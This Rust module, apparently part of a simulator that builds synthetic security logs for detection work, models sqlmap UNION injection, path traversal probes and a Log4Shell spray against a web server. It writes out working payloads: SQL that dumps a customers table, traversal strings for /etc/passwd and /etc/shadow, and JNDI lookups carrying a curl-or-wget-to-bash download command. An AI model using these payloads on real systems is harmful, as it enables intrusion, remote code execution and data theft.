//! Exploitation of a public web server from the actor's address: sqlmap's UNION-based
//! injection, path traversal probes and Log4Shell (JNDI lookup) sprays, and the HTTP
//! exchange all web steps share. Each request leaves an access log line, Zeek conn and
//! http records, a firewall record and, where an ET Open signature would fire, a
//! Suricata alert.

use rand::Rng;

use super::{Ctx, Env, MS, SEC, firewall, host_ip, url_encode, zeek_conn};
use crate::emit::Stream;
use crate::net::{self, Flow, Http, Signature};
use crate::scenario::Role;

/// The server side of the requests of a step.
pub(super) struct Site {
    pub(super) ip: String,
    pub(super) port: u16,
    /// The `Host` header: the public site name, else the address.
    pub(super) host: String,
}

pub(super) fn site(ctx: &Ctx<'_>, env: &Env<'_>) -> Site {
    let target = env.r.target;
    let ip = host_ip(ctx, target);
    let is_web = ctx
        .world
        .hosts
        .get(target)
        .is_some_and(|h| h.role == Role::WebServer);
    let host = match (&ctx.world.website, is_web) {
        (Some(w), true) => w.clone(),
        _ => ip.clone(),
    };
    Site {
        ip,
        port: env.number("port", 80u16),
        host,
    }
}

/// One HTTP request and its answer.
pub(super) struct Req<'a> {
    pub(super) method: &'a str,
    pub(super) uri: String,
    pub(super) user_agent: &'a str,
    pub(super) referrer: &'a str,
    pub(super) status: u16,
    pub(super) bytes: u64,
    pub(super) content_type: &'a str,
}

impl<'a> Req<'a> {
    pub(super) fn get(uri: String, user_agent: &'a str, status: u16, bytes: u64) -> Req<'a> {
        Req {
            method: "GET",
            uri,
            user_agent,
            referrer: "",
            status,
            bytes,
            content_type: "text/html",
        }
    }
}

/// A TCP connection from the actor to the site carrying `reqs`, one every `gap_ms`
/// (a random delay in the range), each with the alerts it raises. Emits the firewall
/// and Zeek conn records of the connection, and per request the access log line, Zeek
/// http record and Suricata alerts.
pub(super) fn session(
    ctx: &mut Ctx<'_>,
    env: &mut Env<'_>,
    site: &Site,
    reqs: &[(Req<'_>, Vec<Signature<'_>>)],
    gap_ms: (i64, i64),
) {
    let start = env.later(ctx, 5, 40);
    let sport = ctx.ephemeral_port();
    let actor = env.actor_ip().to_string();
    let uid = ctx.uid();
    let mut t = start;
    let mut sent = 0u64;
    let mut received = 0u64;
    let mut lines = Vec::new();
    for (i, (req, sigs)) in reqs.iter().enumerate() {
        if i > 0 {
            t += ctx
                .rng
                .random_range(gap_ms.0.max(1)..=gap_ms.1.max(gap_ms.0.max(1)))
                * MS;
        }
        let h = Http {
            client: &actor,
            cport: sport,
            server: &site.ip,
            sport: site.port,
            method: req.method,
            host: &site.host,
            uri: &req.uri,
            user_agent: req.user_agent,
            referrer: req.referrer,
            status: req.status,
            request_bytes: 0,
            response_bytes: req.bytes,
            content_type: req.content_type,
        };
        sent += 120 + req.uri.len() as u64 + req.user_agent.len() as u64;
        received += 180 + req.bytes;
        let served = t + ctx.rng.random_range(2..60) * MS;
        lines.push((served, Stream::WebAccess, net::site_access_line(served, &h)));
        lines.push((t, Stream::ZeekHttp, net::zeek_http(t, &uid, &h)));
        let flow = Flow {
            src: &actor,
            sport,
            dst: &site.ip,
            dport: site.port,
            proto: "tcp",
            orig_bytes: sent,
            resp_bytes: received,
            state: "SF",
            duration: 0.0,
        };
        for sig in sigs {
            let id = super::flow_id(ctx);
            lines.push((
                t + MS,
                Stream::Suricata,
                net::suricata_alert(t + MS, id, &flow, sig, Some(&h)),
            ));
        }
    }
    let end = t + ctx.rng.random_range(5..200) * MS;
    let flow = Flow {
        src: &actor,
        sport,
        dst: &site.ip,
        dport: site.port,
        proto: "tcp",
        orig_bytes: sent,
        resp_bytes: received,
        state: "SF",
        duration: (end - start) as f64 / 1e9,
    };
    firewall(ctx, start, &flow, true);
    let line = net::zeek_conn(start, &uid, &flow);
    ctx.emit(start, Stream::ZeekConn, line);
    for (time, stream, line) in lines {
        ctx.emit(time, stream, line);
    }
    env.t = end;
}

/// sqlmap's UNION-based exploitation of one parameter: heuristics (a quote, the
/// WAF check, boolean and time-based tests), column counting with `ORDER BY`, the
/// UNION marker, schema enumeration and the dump of the table, each request on its
/// own connection, URL-encoded as sqlmap sends them.
pub(super) fn sql_injection(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let site = site(ctx, env);
    let path = env.param("path", "/product.php").to_string();
    let param = env.param("parameter", "id").to_string();
    let table = env.param("table", "customers").to_string();
    let database = env.param("database", "shop").to_string();
    let columns: Vec<String> = env
        .param("columns", "email,password_hash")
        .split(',')
        .map(|c| c.trim().to_string())
        .filter(|c| !c.is_empty())
        .collect();
    let rows: u64 = env.number("rows", 18_452u64).min(10_000_000);
    let ua = env
        .param("user_agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
        .to_string();
    let value: u32 = ctx.rng.random_range(3..400);
    let width = 4; // columns of the vulnerable query
    let q = |payload: &str| format!("{path}?{param}={}", url_encode(payload));
    let marker = |ctx: &mut Ctx<'_>| {
        let hex = |s: String| s.bytes().map(|b| format!("{b:02x}")).collect::<String>();
        (
            format!("0x{}", hex(super::random_text(ctx, 5, b"qjkpvxz"))),
            format!("0x{}", hex(super::random_text(ctx, 5, b"qjkpvxz"))),
        )
    };
    let (m1, m2) = marker(ctx);
    let r1: u32 = ctx.rng.random_range(1_000..9_999);
    let r2: u32 = ctx.rng.random_range(1_000..9_999);
    let nulls = |at: usize, expr: &str| {
        (0..width)
            .map(|i| {
                if i == at {
                    expr.to_string()
                } else {
                    "NULL".to_string()
                }
            })
            .collect::<Vec<_>>()
            .join(",")
    };
    let page = 7_431u64;
    let mut reqs: Vec<(String, u16, u64)> = vec![
        (format!("{path}?{param}={value}"), 200, page),
        (
            format!(
                "{path}?{param}={value}&{}={}",
                super::random_text(
                    ctx,
                    4,
                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                ),
                url_encode(&format!(
                    "{r1} AND 1=1 UNION ALL SELECT 1,NULL,'<script>alert(\"XSS\")</script>',table_name FROM information_schema.tables WHERE 2>1--/**/; EXEC xp_cmdshell('cat ../../../etc/passwd')#"
                ))
            ),
            200,
            page,
        ),
        (q(&format!("{value}'")), 500, 612),
        (q(&format!("{value},\").(('.,)(")), 500, 698),
        (q(&format!("{value} AND {r1}={r1}")), 200, page),
        (q(&format!("{value} AND {r1}={r2}")), 200, 2_106),
        (
            q(&format!(
                "{value} AND (SELECT {r2} FROM (SELECT(SLEEP(5))){})",
                super::random_text(
                    ctx,
                    4,
                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
                )
            )),
            200,
            page,
        ),
    ];
    for n in [1, 10, 6, 3, 5, 4] {
        let ok = n <= width;
        reqs.push((
            q(&format!("{value} ORDER BY {n}-- -")),
            if ok { 200 } else { 500 },
            if ok { page } else { 655 },
        ));
    }
    reqs.push((
        q(&format!("-{value} UNION ALL SELECT {}-- -", nulls(9, ""))),
        200,
        2_106,
    ));
    let probe = format!(
        "CONCAT({m1},0x{},{m2})",
        super::random_text(ctx, 20, b"0123456789abcdef")
    );
    for at in 0..width {
        reqs.push((
            q(&format!(
                "-{value} UNION ALL SELECT {}-- -",
                nulls(at, &probe)
            )),
            200,
            if at == 1 { 2_180 } else { 2_106 },
        ));
    }
    let wrap = |expr: &str| format!("CONCAT({m1},IFNULL(CAST({expr} AS NCHAR),0x20),{m2})");
    let hexs = |s: &str| {
        format!(
            "0x{}",
            s.bytes().map(|b| format!("{b:02x}")).collect::<String>()
        )
    };
    reqs.push((
        q(&format!(
            "-{value} UNION ALL SELECT {}-- -",
            nulls(1, &wrap("DATABASE()"))
        )),
        200,
        2_140,
    ));
    reqs.push((
        q(&format!(
            "-{value} UNION ALL SELECT {} FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name={} AND table_schema={}-- -",
            nulls(1, &format!(
                "CONCAT({m1},IFNULL(CAST(column_name AS NCHAR),0x20),0x6a6b7171,IFNULL(CAST(column_type AS NCHAR),0x20),{m2})"
            )),
            hexs(&table),
            hexs(&database)
        )),
        200,
        3_912,
    ));
    reqs.push((
        q(&format!(
            "-{value} UNION ALL SELECT {} FROM {database}.{table}-- -",
            nulls(1, &wrap("COUNT(*)"))
        )),
        200,
        2_131,
    ));
    let fields = columns
        .iter()
        .map(|c| format!("IFNULL(CAST({c} AS NCHAR),0x20)"))
        .collect::<Vec<_>>()
        .join(",0x6a6b7171,");
    let per_row = 96u64;
    let chunk = 5_000u64;
    let mut offset = 0u64;
    while offset < rows {
        let n = chunk.min(rows - offset);
        reqs.push((
            q(&format!(
                "-{value} UNION ALL SELECT {} FROM {database}.{table} ORDER BY {} LIMIT {offset},{n}-- -",
                nulls(1, &format!("CONCAT({m1},{fields},{m2})")),
                columns.first().map_or("1", String::as_str)
            )),
            200,
            2_106 + n * per_row,
        ));
        offset += n;
    }
    let sigs = |uri: &str, first: bool| {
        let mut v = Vec::new();
        if first {
            v.push(Signature {
                sid: 2_008_538,
                text: "ET SCAN Sqlmap SQL Injection Scan",
                category: "Attempted Administrator Privilege Gain",
                severity: 1,
            });
        }
        let lower = uri.to_ascii_lowercase();
        if lower.contains("union%20all%20select") || lower.contains("union%20select") {
            v.push(Signature {
                sid: 2_006_446,
                text: "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
                category: "Web Application Attack",
                severity: 1,
            });
        } else if lower.contains("select") && lower.contains("from") {
            v.push(Signature {
                sid: 2_006_445,
                text: "ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM",
                category: "Web Application Attack",
                severity: 1,
            });
        }
        v
    };
    for (k, (uri, status, bytes)) in reqs.iter().enumerate() {
        let req = Req::get(uri.clone(), &ua, *status, *bytes);
        let alerts = sigs(uri, k == 1);
        session(ctx, env, &site, &[(req, alerts)], (1, 1));
        if uri.contains("SLEEP") {
            env.t += 5 * SEC;
        }
        env.later(ctx, 80, 900);
    }
}

/// Manual path traversal probes of a download script: plain, encoded, double-encoded
/// and overlong-UTF-8 forms; the plain one succeeds.
pub(super) fn path_traversal(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let site = site(ctx, env);
    let path = env.param("path", "/download.php").to_string();
    let param = env.param("parameter", "file").to_string();
    let ua = env.param("user_agent", "curl/7.88.1").to_string();
    let succeed = env.flag("succeed", true);
    let probes: [(&str, u16, u64); 10] = [
        ("brochure.pdf", 200, 184_220),
        (
            "../../../../etc/passwd",
            if succeed { 200 } else { 400 },
            1_904,
        ),
        ("..%2F..%2F..%2F..%2Fetc%2Fpasswd", 400, 226),
        ("%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", 400, 226),
        ("..%252f..%252f..%252f..%252fetc%252fpasswd", 400, 226),
        ("..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", 400, 226),
        ("....//....//....//....//etc/passwd", 400, 226),
        ("../../../../etc/shadow", 403, 199),
        ("../../../../proc/self/environ", 403, 199),
        (
            "php://filter/convert.base64-encode/resource=../config.php",
            if succeed { 200 } else { 400 },
            1_240,
        ),
    ];
    let sig = Signature {
        sid: 2_101_122,
        text: "GPL WEB_SERVER /etc/passwd",
        category: "Attempted Information Leak",
        severity: 2,
    };
    for (value, status, bytes) in probes {
        let uri = format!("{path}?{param}={value}");
        let decoded = value.to_ascii_lowercase().replace("%2f", "/");
        let alerts = if decoded.contains("etc/passwd") {
            vec![sig.clone()]
        } else {
            vec![]
        };
        let mut req = Req::get(uri, &ua, status, bytes);
        if status == 200 && value != "brochure.pdf" {
            req.content_type = "application/octet-stream";
        }
        session(ctx, env, &site, &[(req, alerts)], (1, 1));
        env.later(ctx, 4_000, 25_000);
    }
}

/// A Log4Shell spray: JNDI lookups in the User-Agent, the Referer and a query string,
/// plain and obfuscated, with the JNDI-Exploit-Kit command payload mass scanners sent,
/// and the server's outbound LDAP connection to the actor's listener (dropped by the
/// firewall unless `egress: allow`).
pub(super) fn log4shell(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let site = site(ctx, env);
    let actor = env.actor_ip().to_string();
    let ldap_port: u16 = env.number("ldap_port", 1389u16);
    let callback = format!("{actor}:{ldap_port}");
    let command = format!("(curl -s {actor}:8080/lh.sh||wget -q -O- {actor}:8080/lh.sh)|bash");
    let b64 = super::base64(command.as_bytes());
    let payloads = [
        format!("${{jndi:ldap://{callback}/a}}"),
        format!("${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{callback}/a}}"),
        format!("${{jndi:ldap://{callback}/Basic/Command/Base64/{b64}}}"),
        format!(
            "${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-l}}${{::-d}}${{::-a}}${{::-p}}://{callback}/Basic/Command/Base64/{b64}}}"
        ),
    ];
    let sig = Signature {
        sid: 2_034_647,
        text: "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        category: "Attempted Administrator Privilege Gain",
        severity: 1,
    };
    let obf = Signature {
        sid: 2_034_699,
        text: "ET EXPLOIT Apache log4j RCE Attempt - lower/upper TCP Bypass (CVE-2021-44228)",
        category: "Attempted Administrator Privilege Gain",
        severity: 1,
    };
    let path = env.param("path", "/").to_string();
    let mut first_hit = None;
    for payload in &payloads {
        let plain = payload.starts_with("${jndi");
        let alerts = vec![if plain { sig.clone() } else { obf.clone() }];
        let uri = format!("{path}?x={}", url_encode(payload));
        let mut with_query = Req::get(uri, payload, 200, 11_204);
        with_query.referrer = payload;
        session(ctx, env, &site, &[(with_query, alerts.clone())], (1, 1));
        first_hit.get_or_insert(env.t);
        let in_agent = Req::get(path.clone(), payload, 200, 11_204);
        session(ctx, env, &site, &[(in_agent, alerts)], (1, 1));
        env.later(ctx, 1_000, 8_000);
    }
    // The vulnerable component resolves the lookup: an LDAP connection out.
    let allowed = env.param("egress", "deny").eq_ignore_ascii_case("allow");
    let server_ip = host_ip(ctx, env.r.target);
    let mut t = first_hit.unwrap_or(env.t) + ctx.rng.random_range(40..400) * MS;
    for _ in 0..if allowed { 1 } else { 3 } {
        let sport = ctx.ephemeral_port();
        let flow = Flow {
            src: &server_ip,
            sport,
            dst: &actor,
            dport: ldap_port,
            proto: "tcp",
            orig_bytes: if allowed { 98 } else { 0 },
            resp_bytes: if allowed { 412 } else { 0 },
            state: if allowed { "SF" } else { "S0" },
            duration: if allowed { 0.21 } else { 3.0 },
        };
        zeek_conn(ctx, t, &flow);
        firewall(ctx, t, &flow, allowed);
        t += ctx.rng.random_range(1_000..3_000) * MS;
    }
    env.t = env.t.max(t);
}
